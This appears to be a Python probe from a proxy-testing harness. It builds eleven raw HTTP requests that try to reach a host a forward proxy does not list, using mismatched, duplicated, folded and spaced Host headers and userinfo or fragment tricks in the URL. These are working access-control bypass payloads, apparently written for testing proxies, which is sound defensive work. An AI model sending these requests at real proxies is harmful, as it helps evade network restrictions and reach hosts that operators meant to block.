"""Asks the proxy for the listed host, and the host for another name: by Host and by the target."""

from functools import partial

from support.attempts import attempt
from support.proxied import reach_by_proxy, token_in


def attack(target):
    reach_by_proxy(target)
    port = target["listed_port"]
    listed, other = f"{target['listed_name']}:{port}", f"{target['unlisted_name']}:{port}"
    end = "Connection: close\r\n\r\n"
    get = f"GET http://{listed}/ HTTP/1.1\r\n"
    requests = {
        "Host": f"{get}Host: {other}\r\n{end}",
        "Host in HTTP/1.0": f"GET http://{listed}/ HTTP/1.0\r\nHost: {other}\r\n{end}",
        "a second Host": f"{get}Host: {listed}\r\nHost: {other}\r\n{end}",
        "a first Host": f"{get}Host: {other}\r\nHost: {listed}\r\n{end}",
        "a folded Host": f"{get}Host: {listed}\r\n {other}\r\n{end}",
        "a spaced Host": f"{get}Host: {listed}\r\nHost : {other}\r\n{end}",
        "the target": f"GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\n{end}",
        "the target alone": f"GET http://{other}/ HTTP/1.1\r\nHost: {listed}\r\n{end}",
        "a user": f"GET http://{listed}@{other}/ HTTP/1.1\r\nHost: {listed}\r\n{end}",
        "a fragment": f"GET http://{listed}#@{other}/ HTTP/1.1\r\nHost: {other}\r\n{end}",
        "a path": f"GET / HTTP/1.1\r\nHost: {other}\r\n{end}",
    }
    return attempt(
        {name: partial(token_in, target, text.encode()) for name, text in requests.items()}
    )
